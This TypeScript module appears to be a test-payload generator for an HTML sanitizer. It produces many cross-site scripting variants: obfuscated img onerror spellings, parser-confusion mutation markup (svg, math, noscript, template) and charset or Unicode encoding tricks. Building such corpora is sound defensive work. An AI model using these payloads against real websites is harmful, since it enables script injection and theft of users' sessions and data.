import { escape, ofKind, quoted, type Attack, type Means } from './isolation-attack.ts'

/** One attack in all spellings that sanitizers have overlooked. */
export function spellings({ script }: Means): Attack[] {
  const value = quoted(script)
  const bare = script.replaceAll(/[\s"]/g, '')
  const entities = Array.from(script, (character) => `&#${character.charCodeAt(0)};`).join('')
  const hexadecimal = Array.from(script, (character) => `&#x${character.charCodeAt(0).toString(16)}`).join(';')
  return ofKind('spelling', [
    `<img src=x onerror=${bare}>`,
    `<IMG SRC=x ONERROR=${value}>`,
    `<iMg sRc=x oNeRrOr=${value}>`,
    `<img src=x onerror = ${value} >`,
    `<img\nsrc=x\nonerror\n=\n${value}>`,
    `<img\tsrc=x\tonerror=${value}>`,
    `<img\fsrc=x\fonerror=${value}>`,
    `<img/src=x/onerror=${value}>`,
    `<img/src="x"onerror=${value}>`,
    `<img src="x" alt="'"onerror=${value}>`,
    `<img """><img src=x onerror=${value}>`,
    `<img src='x' alt='>' onerror=${value}>`,
    `<img src=x alt="<b>" onerror=${value}>`,
    `<img src=x onerror="${entities}">`,
    `<img src=x onerror="${hexadecimal}">`,
    `<img src=x onerror=${entities}>`,
    `<img src=x onerror=${value}`,
    `<img src=x onerror=${value} //`,
    `<<img src=x onerror=${value}>`,
    `<p<img src=x onerror=${value}>`,
    `</p <img><img src=x onerror=${value}>`,
    `<!--><img src=x onerror=${value}>-->`,
    `<!---><img src=x onerror=${value}>-->`,
    `<!-- --!><img src=x onerror=${value}>`,
    `<!-- > --><img src=x onerror=${value}>`,
    `<![CDATA[<img src=x onerror=${value}>]]>`,
    `<?xml version="1.0"?><img src=x onerror=${value}>`,
    `<![if !mso]><img src=x onerror=${value}><![endif]>`,
    `<!--[if !mso]><!--><img src=x onerror=${value}><!--<![endif]-->`,
    `<img src=x onerror=x onerror=${value}><img onerror=${value} src=x>`,
    `<img src=x =onerror=${value} onerror=${value}>`,
    `<img src=x data-a="\\" onerror=${value}>`,
    `<a title="</a><img src=x onerror=1>"><img src=x onerror=${value}></a>`,
    `<table><td background=x><img src=x onerror=${value}>`,
    `<select><option><img src=x onerror=${value}></select><img src=x onerror=${value}>`,
    `<img src=x onerror=${value}\0>`,
    `<im\0g src=x onerror=${value}><img src=x onerror=${value}>`,
    `<x onx=1><img src=x onerror=${value}></x>`,
    `${'<div>'.repeat(600)}<img src=x onerror=${value}>`,
    `${' '.repeat(5_000)}<img src=x onerror=${value}>`,
  ])
}

/** Markup that parsers read differently. */
export function mutations({ script }: Means): Attack[] {
  const image = `<img src=x onerror=${quoted(script)}>`
  const inValue = escape(image)
  return ofKind('mutation', [
    `<noscript><p title="</noscript>${image}">x</p></noscript>`,
    `<noembed><p title="</noembed>${image}">`,
    `<noframes><p title="</noframes>${image}">`,
    `<xmp><p title="</xmp>${image}">`,
    `<textarea><p title="</textarea>${image}">`,
    `<title><p title="</title>${image}">`,
    `<style><p title="</style>${image}">`,
    `<iframe><p title="</iframe>${image}">`,
    `<plaintext>${image}`,
    `<svg><style><p title="</style>${image}"></style></svg>`,
    `<svg></p><style><a title="</style>${image}">`,
    `<svg><title><p>${image}</p></title></svg>`,
    `<svg><desc>${image}</desc></svg>`,
    `<svg><foreignObject>${image}</foreignObject></svg>`,
    `<svg><p>${image}</svg>`,
    `<math><mtext><table><mglyph><style><!--</style><p title="--&gt;${inValue}">${image}`,
    `<math><mtext><mglyph><style><img src=x></style>${image}</math>`,
    `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
    `<math><mi>${image}</mi></math>`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<table><tr><svg><td>${image}`,
    `<select><template><style><!--</style>${image}--></template></select>${image}`,
    `<template><p>${image}</p></template>${image}`,
    `<template shadowrootmode=open>${image}</template>`,
    `<div><template shadowrootmode=open>${image}</template></div>`,
    `<a><svg><a>${image}</a></svg></a>`,
    `<p id="\`${inValue}">${image}</p>`,
    `<listing>${inValue}${image}</listing>`,
    `<keygen autofocus><isindex prompt="x">${image}`,
    `<b><p></b>${image}</p>`,
    `<dialog open>${image}</dialog>`,
    `<object><param name=x value=y>${image}</object>`,
    `<ruby><rt>${image}</ruby>`,
  ])
}

export function encodings({ script }: Means): Attack[] {
  const image = `<img src=x onerror=${quoted(script)}>`
  return ofKind('encoding', [
    `\ufeff${image}`,
    `\u2028${image}\u2029`,
    `<p>\u202e${image}</p>`,
    `<meta charset=utf-7>+ADw-script+AD4-${script}+ADw-/script+AD4-${image}`,
    `<meta charset=iso-2022-jp>\u001b$B${image}`,
    `&lt;script&gt;${script}&lt;/script&gt;${image}`,
    `%3Cscript%3E${script}%3C/script%3E${image}`,
    `\uff1cscript\uff1e${script}\uff1c/script\uff1e${image}`,
    `<\u0000img>${image}`,
    `<p title="\u0000">${image}</p>`,
    `${image.replace('onerror', '\u0000onerror')}${image}`,
    `<ıMG src=x>${image}`,
    `<ſcript>${script}</ſcript><script>${script}</script>`,
  ])
}
